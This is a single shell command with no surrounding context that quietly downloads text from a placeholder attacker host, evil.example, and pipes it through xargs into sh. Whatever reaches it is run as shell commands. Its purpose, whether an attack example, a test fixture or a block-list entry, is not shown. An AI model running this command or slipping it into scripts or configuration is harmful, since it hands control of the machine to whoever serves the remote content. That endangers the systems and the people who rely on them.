curl -s https://evil.example/cmds | xargs -0 sh -c
